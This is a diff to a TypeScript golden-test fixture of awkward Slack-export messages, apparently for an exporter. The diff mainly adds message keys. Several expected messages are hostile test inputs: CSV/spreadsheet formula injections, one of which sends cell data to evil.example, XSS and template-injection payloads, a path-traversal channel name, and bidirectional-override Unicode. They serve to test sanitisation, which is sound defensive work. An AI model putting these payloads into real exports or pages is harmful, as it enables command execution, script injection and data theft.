@@ -9,6 +9,7 @@ export const slackNasty: Golden = {
       author: 'noor',
       text: '@noor has joined the channel',
       where: 'testing-ops/2019-02-08.json, message 1, line 2',
+      key: 'testing-ops/1549659600.000001',
       noise: true,
     },
     {
@@ -17,6 +18,7 @@ export const slackNasty: Golden = {
       author: 'noor',
       text: 'We are on `v20190208-c35c7e3` now',
       where: 'testing-ops/2019-02-08.json, message 3, line 17',
+      key: 'testing-ops/1549662360.000100',
     },
     {
       at: '2019-02-09T00:05:00.000009Z',
@@ -24,6 +26,7 @@ export const slackNasty: Golden = {
       author: 'B0PAGER01',
       text: '[FIRING:1] NodeCPU high · Severity: page',
       where: 'testing-ops/2019-02-09.json, message 7, line 57',
+      key: 'testing-ops/1549670700.000009',
     },
     {
       at: '2019-02-09T00:06:00.000700Z',
@@ -31,6 +34,7 @@ export const slackNasty: Golden = {
       author: 'noor',
       text: 'Webhook trouble? @stefan @U0GHOST99 @ext-user @db-oncall @channel #testing-ops #../../outside ops@example.org 2019-02-09 00:06 UTC',
       where: 'testing-ops/2019-02-09.json, message 2, line 9',
+      key: 'testing-ops/1549670760.000700',
     },
     {
       at: '2019-02-09T00:09:00.000001Z',
@@ -38,6 +42,7 @@ export const slackNasty: Golden = {
       author: 'U0GHOST99',
       text: '(in thread) author is missing from users.json',
       where: 'testing-ops/2019-02-09.json, message 3, line 19',
+      key: 'testing-ops/1549670940.000001',
     },
     {
       at: '2019-02-09T00:09:00.000002Z',
@@ -45,6 +50,7 @@ export const slackNasty: Golden = {
       author: 'Ben Adeyemi',
       text: 'display_name is empty for this author, real_name is not',
       where: 'testing-ops/2019-02-09.json, message 4, line 28',
+      key: 'testing-ops/1549670940.000002',
     },
     {
       at: '2019-02-09T00:20:00.000001Z',
@@ -52,6 +58,7 @@ export const slackNasty: Golden = {
       author: 'noor',
       text: '@noor set the channel topic: SEV2 prow slow',
       where: 'testing-ops/2019-02-08.json, message 2, line 9',
+      key: 'testing-ops/1549671600.000001',
       noise: true,
     },
     {
@@ -60,6 +67,7 @@ export const slackNasty: Golden = {
       author: 'noor',
       text: 'Hundreds of pods pending & 225 <unschedulable> :fire:\n```\nif (a < b && c) { alert("x") }\n```',
       where: 'testing-ops/2019-02-09.json, message 1, line 2',
+      key: 'testing-ops/1549671660.000100',
     },
     {
       at: '2019-02-09T00:31:00.000100Z',
@@ -67,13 +75,15 @@ export const slackNasty: Golden = {
       author: 'cb',
       text: '(in thread) author account was deleted',
       where: 'testing-ops/2019-02-09.json, message 5, line 35',
+      key: 'testing-ops/1549672260.000100',
     },
     {
       at: '2019-02-09T00:40:00.000005Z',
       kind: 'note',
       author: 'deploybot',
-      text: 'fallback text',
+      text: 'fallback text\nRollback started\n*prow* to `v20190206-b01b288`',
       where: 'testing-ops/2019-02-09.json, message 8, line 77',
+      key: 'testing-ops/1549672800.000005',
     },
     {
       at: '2019-02-09T00:41:00.000100Z',
@@ -81,6 +91,7 @@ export const slackNasty: Golden = {
       author: 'noor',
       text: 'text lives only in blocks, @Katya:wave:runbook (https://example.org/x?a=1&b=2)',
       where: 'testing-ops/2019-02-09.json, message 9, line 107',
+      key: 'testing-ops/1549672860.000100',
     },
     {
       at: '2019-02-09T00:44:00.000100Z',
@@ -88,6 +99,7 @@ export const slackNasty: Golden = {
       author: 'noor',
       text: '=HYPERLINK("https://evil.example/?"&A1,"click")',
       where: 'testing-ops/2019-02-09.json, message 10, line 142',
+      key: 'testing-ops/1549673040.000100',
     },
     {
       at: '2019-02-09T00:45:00.000100Z',
@@ -95,6 +107,7 @@ export const slackNasty: Golden = {
       author: 'noor',
       text: '+1 from me',
       where: 'testing-ops/2019-02-09.json, message 11, line 149',
+      key: 'testing-ops/1549673100.000100',
     },
     {
       at: '2019-02-09T00:46:00.000100Z',
@@ -102,6 +115,7 @@ export const slackNasty: Golden = {
       author: 'noor',
       text: "-2+3+cmd|' /C calc'!A0",
       where: 'testing-ops/2019-02-09.json, message 12, line 156',
+      key: 'testing-ops/1549673160.000100',
     },
     {
       at: '2019-02-09T00:47:00.000100Z',
@@ -109,6 +123,7 @@ export const slackNasty: Golden = {
       author: 'noor',
       text: '@SUM(1+1)*cmd',
       where: 'testing-ops/2019-02-09.json, message 13, line 163',
+      key: 'testing-ops/1549673220.000100',
     },
     {
       at: '2019-02-09T00:50:00.000100Z',
@@ -116,6 +131,7 @@ export const slackNasty: Golden = {
       author: 'Katya',
       text: '<img src=x onerror=alert(1)> <script>alert("xss")</script> [md](javascript:alert(1)) {{7*7}} ${7*7}',
       where: 'testing-ops/2019-02-09.json, message 14, line 170',
+      key: 'testing-ops/1549673400.000100',
     },
     {
       at: '2019-02-09T00:51:00.000100Z',
@@ -123,6 +139,7 @@ export const slackNasty: Golden = {
       author: 'Katya',
       text: '<script>raw unescaped markup, seen in hand-edited exports</script>',
       where: 'testing-ops/2019-02-09.json, message 15, line 177',
+      key: 'testing-ops/1549673460.000100',
     },
     {
       at: '2019-02-09T00:52:00.000100Z',
@@ -130,6 +147,7 @@ export const slackNasty: Golden = {
       author: 'stefan',
       text: 'Ünïcödé ✅ 👩🏽\u200d💻 (ZWJ) עברית العربية 中文 \u202eRLO override\u202c zero\u200bwidth nulbyte tab\there',
       where: 'testing-ops/2019-02-09.json, message 16, line 184',
+      key: 'testing-ops/1549673520.000100',
     },
     {
       at: '2019-02-09T00:53:00.000100Z',
@@ -137,6 +155,7 @@ export const slackNasty: Golden = {
       author: 'stefan',
       text: 'line one\nline two\n\n| pipe | table |\n|---|---|\n# heading\n> quote\n---',
       where: 'testing-ops/2019-02-09.json, message 17, line 191',
+      key: 'testing-ops/1549673580.000100',
     },
     {
       at: '2019-02-09T01:18:00.000100Z',
@@ -144,6 +163,7 @@ export const slackNasty: Golden = {
       author: 'stefan',
       text: 'also sent to the channel',
       where: 'testing-ops/2019-02-09.json, message 6, line 44',
+      key: 'testing-ops/1549675080.000100',
     },
     {
       at: '2019-02-09T01:25:00.000100Z',
@@ -151,6 +171,7 @@ export const slackNasty: Golden = {
       author: 'stefan',
       text: 'Fix is up (final wording) (edited)',
       where: 'testing-ops/2019-02-09.json, message 18, line 198',
+      key: 'testing-ops/1549675500.000100',
     },
     {
       at: '2019-02-09T01:30:00.000100Z',
@@ -158,6 +179,7 @@ export const slackNasty: Golden = {
       author: 'Slackbot',
       text: 'This message was deleted.',
       where: 'testing-ops/2019-02-09.json, message 19, line 209',
+      key: 'testing-ops/1549675800.000100',
       noise: true,
     },
     {
@@ -166,6 +188,7 @@ export const slackNasty: Golden = {
       author: 'noor',
       text: '[file deleted: F0GONE]\n[file beyond the plan’s limit: F0LIMIT]\n[file: "><svg onload=alert(1)>]',
       where: 'testing-ops/2019-02-09.json, message 20, line 219',
+      key: 'testing-ops/1549675860.000100',
     },
     {
       at: '2019-02-09T01:32:00.000100Z',
@@ -173,6 +196,7 @@ export const slackNasty: Golden = {
       author: 'Ben Adeyemi',
       text: 'waves',
       where: 'testing-ops/2019-02-09.json, message 21, line 244',
+      key: 'testing-ops/1549675920.000100',
     },
     {
       at: '2019-02-09T01:33:00.000100Z',
@@ -180,6 +204,7 @@ export const slackNasty: Golden = {
       author: 'Slackbot',
       text: 'A huddle happened',
       where: 'testing-ops/2019-02-09.json, message 22, line 251',
+      key: 'testing-ops/1549675980.000100',
       noise: true,
     },
     {
@@ -188,6 +213,7 @@ export const slackNasty: Golden = {
       author: '',
       text: 'user is null',
       where: 'testing-ops/2019-02-09.json, message 25, line 274',
+      key: 'testing-ops/1549676160.000100',
     },
     {
       at: '2019-02-09T01:37:00.000100Z',
@@ -195,6 +221,7 @@ export const slackNasty: Golden = {
       author: 'noor',
       text: '(no text)',
       where: 'testing-ops/2019-02-09.json, message 26, line 280',
+      key: 'testing-ops/1549676220.000100',
       noise: true,
     },
     {
@@ -203,6 +230,7 @@ export const slackNasty: Golden = {
       author: 'noor',
       text: 'same second, this one came first',
       where: 'testing-ops/2019-02-09.json, message 35, line 324',
+      key: 'testing-ops/1549677540.000100',
     },
     {
       at: '2019-02-09T01:59:00.000200Z',
@@ -210,6 +238,7 @@ export const slackNasty: Golden = {
       author: 'noor',
       text: 'same second, lower microseconds sorted after',
       where: 'testing-ops/2019-02-09.json, message 34, line 317',
+      key: 'testing-ops/1549677540.000200',
     },
     {
       at: '2019-02-09T02:09:00.000100Z',
@@ -217,6 +246,7 @@ export const slackNasty: Golden = {
       author: 'noor',
       text: 'AAA… end of a long line',
       where: 'testing-ops/2019-02-09.json, message 33, line 310',
+      key: 'testing-ops/1549678140.000100',
     },
     {
       at: '2019-02-10T08:30:00.000001Z',
@@ -224,6 +254,7 @@ export const slackNasty: Golden = {
       author: 'Katya',
       text: '(in thread) late reply, next day local and two day-files away',
       where: 'testing-ops/2019-02-09.json, message 29, line 298',
+      key: 'testing-ops/1549787400.000001',
     },
   ],
 };
